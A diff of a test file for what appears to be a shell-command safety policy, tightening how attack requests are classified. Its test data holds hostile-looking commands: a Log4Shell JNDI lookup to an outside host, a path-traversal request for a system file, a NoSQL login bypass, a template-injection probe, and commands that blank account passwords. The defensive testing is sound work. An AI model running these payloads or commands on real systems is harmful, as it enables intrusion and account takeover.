@@ -202,10 +202,11 @@ def test_every_file_of_a_tree_rewritten(command: str, decision: Decision) -> Non
     ("usermod -p \"\" kiosk", Decision.BLOCK), ("net user Guest \"\"", Decision.BLOCK),
     ("usermod -aG video kiosk", Decision.CONFIRM), ("net user Guest", Decision.ALLOW),
     # more attacks carried by a request, and the scanners made for them
+    # (a Log4Shell lookup or a climb to a system file sent to a host blocks: block.shell.exploit-payload)
     ("curl -H 'X-Api-Version: ${jndi:ldap://203.0.113.30/o}' https://app.example.com/",
-     Decision.CONFIRM), ("curl 'https://app.example.com/greet?name={{7*7}}'", Decision.CONFIRM),
+     Decision.BLOCK), ("curl 'https://app.example.com/greet?name={{7*7}}'", Decision.CONFIRM),
     ("curl -d '{\"email\":\"a@b.c\",\"password\":{\"$ne\":\"\"}}' https://app.example.com/login", Decision.CONFIRM),
-    ("wget 'https://app.example.com/img?f=..%252f..%252fwindows%252fwin.ini'", Decision.CONFIRM),
+    ("wget 'https://app.example.com/img?f=..%252f..%252fwindows%252fwin.ini'", Decision.BLOCK),
     ("gobuster dir -u https://shop.example.net -w paths.txt", Decision.CONFIRM), ("sqlmap --version", Decision.ALLOW),
     ("curl -X POST https://cms.example.com/api/posts -d 'body=<img src=\"q3.png\"> Results'", Decision.ALLOW),
     ("curl -d '{\"query\":\"{ items(first: 5) { id } }\"}' https://api.example.com/graphql", Decision.ALLOW),
